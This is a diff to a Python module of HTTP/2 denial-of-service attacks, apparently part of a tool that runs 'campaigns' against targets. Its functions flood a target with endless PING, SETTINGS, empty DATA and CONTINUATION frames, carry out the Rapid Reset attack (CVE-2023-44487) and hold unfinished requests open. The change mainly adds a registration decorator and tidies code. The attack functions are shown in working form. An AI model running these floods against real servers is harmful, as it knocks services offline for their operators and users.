@@ -10,7 +10,7 @@ import struct
 import time
 from collections.abc import Callable, Iterator
 
-from campaigns.hostile_target import METHODS, Target
+from campaigns.hostile_target import METHODS, Target, kind
 from support.http2 import DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
 
 _CONTINUATION = 9
@@ -51,27 +51,29 @@ def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
     return frames
 
 
+@kind
 def frames_of_pings(target: Target) -> int:
-    """Send PING frames for ever."""
     return _flood(target, _endless(frame(PING, bytes(8)) * 100))
 
 
+@kind
 def frames_of_settings(target: Target) -> int:
-    """Send SETTINGS frames for ever."""
     return _flood(target, _endless(frame(SETTINGS, struct.pack(">HI", 3, 50)) * 100))
 
 
+@kind
 def frames_of_empty_data(target: Target) -> int:
-    """Send empty DATA frames for one request for ever."""
     return _flood(target, _endless(frame(DATA, stream=1) * 100, frame(HEADERS, _REQUEST, END_HEADERS, 1)))
 
 
+@kind
 def frames_of_continuations(target: Target) -> int:
     """Send a header block that never ends."""
     field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
     return _flood(target, _endless(frame(_CONTINUATION, field, stream=1), frame(HEADERS, _REQUEST, stream=1)))
 
 
+@kind
 def frames_of_resets(target: Target) -> int:
     """Reset requests right after their headers (CVE-2023-44487)."""
 
@@ -80,15 +82,15 @@ def frames_of_resets(target: Target) -> int:
         while True:
             data = b""
             for _ in range(20):
-                data += frame(HEADERS, _REQUEST, END_HEADERS, stream) + frame(
-                    RST_STREAM, bytes(3) + b"\x08", stream=stream
-                )
+                data += frame(HEADERS, _REQUEST, END_HEADERS, stream)
+                data += frame(RST_STREAM, bytes(3) + b"\x08", stream=stream)
                 stream += 2
             yield data
 
     return _flood(target, frames)
 
 
+@kind
 def unfinished_requests(target: Target) -> int:
     """Start messages and never complete them, as many as the server accepts."""
     held: list[socket.socket] = []
@@ -122,7 +124,7 @@ def _take_windows(connection: socket.socket, window: list[int]) -> None:
     """Read window updates of the connection and add them to `window[0]`."""
     data = _receive_now(connection) or b""
     while len(data) >= 9:
-        length, kind, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
-        if kind == WINDOW_UPDATE and stream == 0 and len(data) >= 13:
+        length, number, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
+        if number == WINDOW_UPDATE and stream == 0 and len(data) >= 13:
             window[0] += int.from_bytes(data[9:13], "big")
         data = data[9 + length :]
